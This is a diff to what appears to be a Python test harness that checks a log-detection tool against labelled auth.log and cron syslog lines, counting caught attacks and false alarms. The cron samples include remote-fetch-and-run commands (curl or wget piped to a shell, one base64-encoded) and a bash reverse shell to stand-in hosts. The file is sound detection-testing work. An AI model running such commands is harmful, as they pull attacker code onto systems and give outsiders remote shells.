@@ -186,6 +186,86 @@ SHELL_BENIGN = [
     'python3 manage.py migrate',
 ]
 
+# auth.log and cron's syslog lines: (line, whether a responder must be shown it; None
+# for each failed login, which a brute-force finding cites as a group).
+# Lines that only repeat another (su's session line) or that admins do every day
+# (visudo, groupadd, a deploy user's sudo) are not.
+AUTH_LINES = [
+    ('Feb 29 15:00:07 web1 sshd[1000]: Failed password for root from 203.0.113.50 port 40000 ssh2', None),
+    ('Feb 29 15:00:14 web1 sshd[1001]: Failed password for root from 203.0.113.50 port 40001 ssh2', None),
+    ('Feb 29 15:00:21 web1 sshd[1002]: Failed password for root from 203.0.113.50 port 40002 ssh2', None),
+    ('Feb 29 15:00:28 web1 sshd[1003]: Failed password for root from 203.0.113.50 port 40003 ssh2', None),
+    ('Feb 29 15:00:35 web1 sshd[1004]: Failed password for root from 203.0.113.50 port 40004 ssh2', None),
+    ('Feb 29 15:00:42 web1 sshd[1005]: Failed password for root from 203.0.113.50 port 40005 ssh2', None),
+    ('Feb 29 15:00:49 web1 sshd[1006]: Failed password for root from 203.0.113.50 port 40006 ssh2', None),
+    ('Feb 29 15:00:56 web1 sshd[1007]: Failed password for root from 203.0.113.50 port 40007 ssh2', None),
+    ('Feb 29 15:01:03 web1 sshd[1008]: Failed password for root from 203.0.113.50 port 40008 ssh2', None),
+    ('Feb 29 15:01:10 web1 sshd[1009]: Failed password for root from 203.0.113.50 port 40009 ssh2', None),
+    ('Feb 29 15:01:17 web1 sshd[1010]: Failed password for root from 203.0.113.50 port 40010 ssh2', None),
+    ('Feb 29 15:01:24 web1 sshd[1011]: Failed password for root from 203.0.113.50 port 40011 ssh2', None),
+    ('Feb 29 15:01:31 web1 sshd[1012]: Failed password for root from 203.0.113.50 port 40012 ssh2', None),
+    ('Feb 29 15:01:38 web1 sshd[1013]: Failed password for root from 203.0.113.50 port 40013 ssh2', None),
+    ('Feb 29 15:01:45 web1 sshd[1014]: Failed password for root from 203.0.113.50 port 40014 ssh2', None),
+    ('Feb 29 15:01:52 web1 sshd[1015]: Failed password for root from 203.0.113.50 port 40015 ssh2', None),
+    ('Feb 29 15:01:59 web1 sshd[1016]: Failed password for root from 203.0.113.50 port 40016 ssh2', None),
+    ('Feb 29 15:02:06 web1 sshd[1017]: Failed password for root from 203.0.113.50 port 40017 ssh2', None),
+    ('Feb 29 15:02:13 web1 sshd[1018]: Failed password for root from 203.0.113.50 port 40018 ssh2', None),
+    ('Feb 29 15:02:20 web1 sshd[1019]: Failed password for root from 203.0.113.50 port 40019 ssh2', None),
+    ('Feb 29 15:02:27 web1 sshd[1020]: Failed password for root from 203.0.113.50 port 40020 ssh2', None),
+    ('Feb 29 15:02:34 web1 sshd[1021]: Failed password for root from 203.0.113.50 port 40021 ssh2', None),
+    ('Feb 29 15:02:41 web1 sshd[1022]: Failed password for root from 203.0.113.50 port 40022 ssh2', None),
+    ('Feb 29 15:02:48 web1 sshd[1023]: Failed password for root from 203.0.113.50 port 40023 ssh2', None),
+    ('Feb 29 15:02:55 web1 sshd[1024]: Failed password for root from 203.0.113.50 port 40024 ssh2', None),
+    ('Feb 29 15:03:02 web1 sshd[1100]: Failed password for invalid user admin0 from 203.0.113.51 port 41000 ssh2', None),
+    ('Feb 29 15:03:09 web1 sshd[1100]: Invalid user test0 from 203.0.113.51 port 41000', None),
+    ('Feb 29 15:03:16 web1 sshd[1101]: Failed password for invalid user admin1 from 203.0.113.51 port 41001 ssh2', None),
+    ('Feb 29 15:03:23 web1 sshd[1101]: Invalid user test1 from 203.0.113.51 port 41001', None),
+    ('Feb 29 15:03:30 web1 sshd[1102]: Failed password for invalid user admin2 from 203.0.113.51 port 41002 ssh2', None),
+    ('Feb 29 15:03:37 web1 sshd[1102]: Invalid user test2 from 203.0.113.51 port 41002', None),
+    ('Feb 29 15:03:44 web1 sshd[1103]: Failed password for invalid user admin3 from 203.0.113.51 port 41003 ssh2', None),
+    ('Feb 29 15:03:51 web1 sshd[1103]: Invalid user test3 from 203.0.113.51 port 41003', None),
+    ('Feb 29 15:03:58 web1 sshd[1104]: Failed password for invalid user admin4 from 203.0.113.51 port 41004 ssh2', None),
+    ('Feb 29 15:04:05 web1 sshd[1104]: Invalid user test4 from 203.0.113.51 port 41004', None),
+    ('Feb 29 15:04:12 web1 sshd[1105]: Failed password for invalid user admin5 from 203.0.113.51 port 41005 ssh2', None),
+    ('Feb 29 15:04:19 web1 sshd[1105]: Invalid user test5 from 203.0.113.51 port 41005', None),
+    ('Feb 29 15:04:26 web1 sshd[1106]: Failed password for invalid user admin6 from 203.0.113.51 port 41006 ssh2', None),
+    ('Feb 29 15:04:33 web1 sshd[1106]: Invalid user test6 from 203.0.113.51 port 41006', None),
+    ('Feb 29 15:04:40 web1 sshd[1107]: Failed password for invalid user admin7 from 203.0.113.51 port 41007 ssh2', None),
+    ('Feb 29 15:04:47 web1 sshd[1107]: Invalid user test7 from 203.0.113.51 port 41007', None),
+    ('Feb 29 15:04:54 web1 sshd[1200]: Accepted password for root from 203.0.113.50 port 40100 ssh2', True),
+    ('Feb 29 15:05:01 web1 sshd[1201]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)', False),
+    ('Feb 29 15:05:08 web1 useradd[1300]: new user: name=sysadm, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0', True),
+    ('Feb 29 15:05:15 web1 useradd[1301]: new user: name=backup2, UID=1002, GID=1002, home=/home/backup2, shell=/bin/bash, from=/dev/pts/0', True),
+    ("Feb 29 15:05:22 web1 usermod[1302]: add 'backup2' to group 'sudo'", True),
+    ("Feb 29 15:05:29 web1 usermod[1303]: add 'backup2' to shadow group 'sudo'", False),
+    ('Feb 29 15:05:36 web1 passwd[1304]: pam_unix(passwd:chauthtok): password changed for root', True),
+    ('Feb 29 15:05:43 web1 groupadd[1305]: group added to /etc/group: name=wheel2, GID=1003', False),
+    ("Feb 29 15:05:50 web1 userdel[1306]: delete user 'alice'", False),
+    ('Feb 29 15:05:57 web1 sudo:  www-data : TTY=unknown ; PWD=/var/www/html ; USER=root ; COMMAND=/bin/bash -c id', True),
+    ('Feb 29 15:06:04 web1 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx', False),
+    ('Feb 29 15:06:11 web1 sudo:  backup2 : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/tee -a /etc/sudoers', True),
+    ('Feb 29 15:06:18 web1 sudo:  backup2 : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/sbin/visudo', False),
+    ('Feb 29 15:06:25 web1 sudo: www-data : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh', True),
+    ('Feb 29 15:06:32 web1 sudo:   alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/su', True),
+    ('Feb 29 15:06:39 web1 su[1400]: (to root) www-data on pts/2', True),
+    ('Feb 29 15:06:46 web1 su[1401]: pam_unix(su:session): session opened for user root(uid=0) by www-data(uid=33)', False),
+    ('Feb 29 15:06:53 web1 sshd[1500]: Accepted publickey for deploy from 198.51.100.20 port 50000 ssh2: RSA SHA256:abc', False),
+    ('Feb 29 15:07:00 web1 CRON[1600]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)', False),
+]
+CRON_LINES = [
+    ('Feb 29 16:01:00 web1 CRON[2000]: (root) CMD (curl -fsSL http://203.0.113.5/x.sh | sh)', True),
+    ('Feb 29 16:02:00 web1 CRON[2001]: (www-data) CMD (/tmp/.x/kdevtmpfsi >/dev/null 2>&1)', True),
+    ('Feb 29 16:03:00 web1 CRON[2002]: (www-data) CMD (wget -q -O - http://evil.example/m | bash)', True),
+    ('Feb 29 16:04:00 web1 CRON[2003]: (root) CMD (bash -i >& /dev/tcp/203.0.113.5/443 0>&1)', True),
+    ('Feb 29 16:05:00 web1 crontab[2004]: (www-data) REPLACE (www-data)', True),
+    ('Feb 29 16:06:00 web1 crontab[2005]: (root) BEGIN EDIT (root)', False),
+    ('Feb 29 16:07:00 web1 CRON[2006]: (root) CMD (echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d | sh)', True),
+    ('Feb 29 16:08:00 web1 CRON[2100]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)', False),
+    ('Feb 29 16:09:00 web1 CRON[2101]: (root) CMD (test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily ))', False),
+    ('Feb 29 16:10:00 web1 CRON[2102]: (www-data) CMD (php /var/www/html/artisan schedule:run >> /dev/null 2>&1)', False),
+    ('Feb 29 16:11:00 web1 CRON[2103]: (root) CMD (/usr/bin/certbot renew --quiet)', False),
+]
+
 
 def enc(p, how):
     if how == 0:  # as a browser sends it
@@ -205,7 +285,7 @@ def hunt(shodo, log_lines, path, log_format="combined"):
     hits = collections.defaultdict(list)
     for line in out.splitlines():
         f = json.loads(line)
-        hits[f["log.file.line"]].append(f["rule.title"])
+        hits[f["log.file.line"]].append((f["rule.title"], f["rule.level"]))
     return hits
 
 
@@ -260,7 +340,7 @@ def main():
     flagged = hunt(shodo, benign, os.path.join(work, "benign.log"))
     print(f"benign flagged: {len(flagged)} / {len(B)}")
     for n, titles in sorted(flagged.items()):
-        print("FLAGGED", B[n - 1], "|", "; ".join(titles))
+        print("FLAGGED", B[n - 1], "|", "; ".join(t for t, _ in titles))
     history = SHELL_ATTACKS + SHELL_BENIGN
     flagged = hunt(shodo, history, os.path.join(work, ".bash_history"), "bash_history")
     caught = [n for n in range(1, len(SHELL_ATTACKS) + 1) if n in flagged]
@@ -272,8 +352,25 @@ def main():
     wrong = [n for n in flagged if n > len(SHELL_ATTACKS)]
     print(f"shell history benign commands flagged: {len(wrong)} / {len(SHELL_BENIGN)}")
     for n in sorted(wrong):
-        print("FLAGGED", history[n - 1], "|", "; ".join(flagged[n]))
-
+        print("FLAGGED", history[n - 1], "|", "; ".join(t for t, _ in flagged[n]))
+    for name, labelled in (("auth.log", AUTH_LINES), ("cron syslog", CRON_LINES)):
+        # An attack line counts when any finding cites it; another line only when a
+        # finding of medium level or above does (low and informational ones are context:
+        # an accepted key, a scheduler that runs as the web user).
+        found = hunt(shodo, [l for l, _ in labelled], os.path.join(work, "syslog"), "syslog")
+        attacks = [n for n, (_, a) in enumerate(labelled, 1) if a]
+        caught = [n for n in attacks if n in found]
+        print(f"{name} attack lines flagged: {len(caught)} / {len(attacks)}")
+        if show_misses:
+            for n in attacks:
+                if n not in found:
+                    print("MISS", name, labelled[n - 1][0])
+        others = [n for n, (_, a) in enumerate(labelled, 1) if a is False]
+        serious = [n for n in others
+                   if any(level not in ("low", "informational") for _, level in found.get(n, []))]
+        print(f"{name} other lines flagged at medium or above: {len(serious)} / {len(others)}")
+        for n in serious:
+            print("FLAGGED", labelled[n - 1][0], "|", "; ".join(t for t, _ in found[n]))
 
 if __name__ == "__main__":
     main()
